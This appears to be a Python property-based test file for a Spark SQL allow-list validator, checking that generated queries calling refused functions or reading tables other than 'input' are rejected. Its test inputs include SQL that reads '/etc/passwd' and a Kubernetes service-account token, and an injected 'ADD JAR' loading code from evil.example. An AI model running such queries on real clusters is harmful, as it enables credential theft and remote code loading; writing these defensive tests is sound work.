"""The SQL allow-list, by property: SQL and expressions generated from (a part of) Spark's
grammar, with function names drawn from Spark's registry, the refused list and names
no registry has, spelled the ways Spark accepts (case, backticks, ``builtin.``), and
relations drawn from ``input`` and everything else a FROM clause takes. Whatever the
generator builds, nothing outside the allow-list passes."""

from __future__ import annotations

import os
from dataclasses import dataclass, field

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contract import sql
from contract.spark_functions import SPARK_FUNCTIONS

pytestmark = pytest.mark.unit

# CI runs the same examples every time (a landing never fails on a new random draw);
# a developer explores new ones with STREAMQ_HYPOTHESIS_RANDOM=1.
DERANDOMIZE = os.environ.get("STREAMQ_HYPOTHESIS_RANDOM") != "1"


@dataclass
class Text:
    """Generated SQL and what it really does: the functions it calls, the relations it reads."""

    sql: str
    calls: set[str] = field(default_factory=set)
    relations: set[str] = field(default_factory=set)  # "input" or anything else

    def __add__(self, other: Text) -> Text:
        return Text(self.sql + other.sql, self.calls | other.calls, self.relations | other.relations)


SAFE = sorted(sql.DEFAULT_SQL_FUNCTIONS & {
    "abs", "coalesce", "concat", "upper", "lower", "length", "substr", "get_json_object", "to_json", "from_json",
    "sha2", "md5", "round", "greatest", "least", "nvl", "regexp_replace", "split", "size", "element_at", "hash",
})  # fmt: skip
ONE_ARGUMENT = ["abs", "upper", "lower", "length", "md5", "size", "hash", "coalesce", "to_json", "sha1", "trim"]
REFUSED = sorted(sql.REFUSED_FUNCTIONS)
UNKNOWN = ["input", "evil", "exec", "system", "shell", "load_jar", "read_file", "getenv", "identifier", "udf_x"]
OTHER_RELATIONS = [
    "other",
    "team_b.payments",
    "spark_catalog.default.t",
    "text.`/var/run/secrets/kubernetes.io/serviceaccount/token`",
    "csv.`/etc/passwd`",
    "parquet.`s3a://other/x`",
    "range(10)",
    "read_files('/etc')",
    "VALUES (1, 2)",
]


def spelled(name: str) -> st.SearchStrategy[str]:
    return st.sampled_from([name, name.upper(), f"`{name}`", f"builtin.{name}", f"system.builtin.{name}", f"{name} "])


@st.composite
def call(draw, arg: st.SearchStrategy[Text]) -> Text:
    name = draw(st.one_of(st.sampled_from(SAFE), st.sampled_from(REFUSED), st.sampled_from(UNKNOWN),
                          st.sampled_from(sorted(SPARK_FUNCTIONS))))  # fmt: skip
    args = draw(st.lists(arg, min_size=0, max_size=3))
    text = Text(f"{draw(spelled(name))}(")
    for i, a in enumerate(args):
        text = text + Text(", " if i else "") + a
    return text + Text(")", {name})


LEAVES = st.one_of(
    st.sampled_from(["value", "key", "amount", "`weird col`"]).map(Text),
    st.integers(-5, 10**6).map(lambda n: Text(str(n))),
    st.sampled_from(["'x'", "'a''b'", "'it\\'s'", "r'\\'", '"dq"', "X'00'"]).map(Text),
)


@st.composite
def subquery(draw, inner: st.SearchStrategy[Text]) -> Text:
    relation = draw(st.sampled_from(["input", *OTHER_RELATIONS]))
    return Text("(SELECT ") + draw(inner) + Text(f" FROM {relation})", relations={relation})


def expressions() -> st.SearchStrategy[Text]:
    def extend(inner):
        return st.one_of(
            call(inner),
            st.tuples(inner, st.sampled_from([" + ", " = ", " AND ", " > ", " || "]), inner).map(
                lambda t: t[0] + Text(t[1]) + t[2]
            ),
            inner.map(lambda e: Text("CAST(") + e + Text(" AS STRING)")),
            st.tuples(inner, inner).map(lambda t: Text("CASE WHEN ") + t[0] + Text(" THEN ") + t[1] + Text(" END")),
            inner.map(lambda e: Text("transform(array(1), x -> ") + e + Text(")", {"transform", "array"})),
            subquery(inner),
        )

    return st.recursive(LEAVES, extend, max_leaves=8)


def allowed(text: Text) -> bool:
    return text.calls <= sql.DEFAULT_SQL_FUNCTIONS and text.relations <= {"input"}


@settings(max_examples=250, deadline=None, derandomize=DERANDOMIZE, suppress_health_check=[HealthCheck.too_slow])
@given(expressions())
def test_an_expression_passes_only_when_every_call_is_allowed_and_it_reads_no_table(expr):
    problems = sql.expression_problems(expr.sql) + sql.function_problems(expr.sql)
    if not allowed(expr) or expr.relations:
        assert problems, f"accepted: {expr.sql!r} calls {expr.calls - sql.DEFAULT_SQL_FUNCTIONS}, reads {expr.relations}"


@st.composite
def statements(draw) -> Text:
    items = draw(st.lists(expressions(), min_size=1, max_size=3))
    select = Text("SELECT ")
    for i, item in enumerate(items):
        select = select + Text(", " if i else "") + item + Text(f" AS c{i}")
    relation = draw(st.sampled_from(["input", "input AS i", *OTHER_RELATIONS]))
    body = select + Text(f" FROM {relation}", relations={relation.split(" AS ")[0]})
    if draw(st.booleans()):
        other = draw(st.sampled_from(["input", *OTHER_RELATIONS]))
        body = body + Text(f" UNION ALL SELECT * FROM {other}", relations={other})
    wrapper = draw(st.sampled_from([
        ("", "", True),
        ("WITH w AS (SELECT * FROM input) ", "", True),
        ("CREATE TEMPORARY VIEW v AS ", "", False),
        ("INSERT OVERWRITE DIRECTORY '/tmp/x' ", "", False),
        ("EXPLAIN ", "", False),
        ("CACHE TABLE c AS ", "", False),
        ("", "; SET spark.x=1", False),
        ("", "; ADD JAR https://evil.example/x.jar", False),
    ]))  # fmt: skip
    prefix, suffix, plain = wrapper
    text = Text(prefix) + body + Text(suffix)
    if not plain:
        text.relations.add("<statement>")
    return text


@settings(max_examples=250, deadline=None, derandomize=DERANDOMIZE, suppress_health_check=[HealthCheck.too_slow])
@given(statements())
def test_a_sql_step_passes_only_as_a_select_over_input_with_allowed_calls(statement):
    problems = sql.statement_problems(statement.sql) + sql.function_problems(statement.sql)
    if not allowed(statement):
        assert problems, f"accepted: {statement.sql!r}"


@settings(max_examples=200, deadline=None, derandomize=DERANDOMIZE)
@given(st.lists(st.sampled_from(ONE_ARGUMENT), min_size=1, max_size=4), st.sampled_from(["input", "input AS i"]))
def test_a_select_over_input_with_allowed_calls_passes(names, relation):
    items = ", ".join(f"{name}(value) AS c{i}" for i, name in enumerate(names))
    text = f"SELECT key, {items} FROM {relation} WHERE value IS NOT NULL"
    assert sql.statement_problems(text) == [] and sql.function_problems(text) == []


@pytest.mark.parametrize("text", [
    "CAST(get_json_object(CAST(value AS STRING), '$.amount') AS DOUBLE)",
    "amount > 1000 AND coalesce(key, '') <> ''",
    "CASE WHEN amount > 1000 THEN 'high' ELSE 'low' END AS band",
    "transform(split(CAST(value AS STRING), ','), x -> upper(x))",
    "CAST(amount AS DECIMAL(10, 2))",
])  # fmt: skip
def test_the_expressions_queries_are_made_of_pass(text):
    assert sql.expression_problems(text) == [] and sql.function_problems(text) == []


def test_the_platform_can_open_a_refused_function_by_name_or_all_at_once():
    text = "reflect('java.util.UUID', 'randomUUID')"
    assert sql.function_problems(text)
    assert sql.function_problems(text, ["reflect"]) == []
    assert sql.function_problems(text, ["*"]) == []
    assert sql.function_problems("no_such_function(1)", ["*"])  # '*' opens Spark's registry, nothing more


def test_the_allow_list_is_spark_registry_minus_the_refused_functions():
    assert sql.REFUSED_FUNCTIONS.keys() <= SPARK_FUNCTIONS, "a refused name Spark does not have: a typo"
    assert sql.DEFAULT_SQL_FUNCTIONS == SPARK_FUNCTIONS - sql.REFUSED_FUNCTIONS.keys()


@pytest.mark.parametrize("text", [
    "SELECT CAST(window.start AS STRING) AS key, CAST(count(*) AS STRING) AS value FROM input GROUP BY window(timestamp, '10 seconds')",
    "SELECT key, aggregate(array(1, 2), 0, (acc, x) -> acc + x) AS s FROM input",
    "SELECT key, to_json(named_struct('id', p.id)) AS value FROM (SELECT key, from_json(CAST(value AS STRING), 'id STRING') AS p FROM input)",
])  # fmt: skip
def test_benign_steps_the_parser_finds_hard_pass(text):
    assert sql.statement_problems(text) == [] and sql.function_problems(text) == []
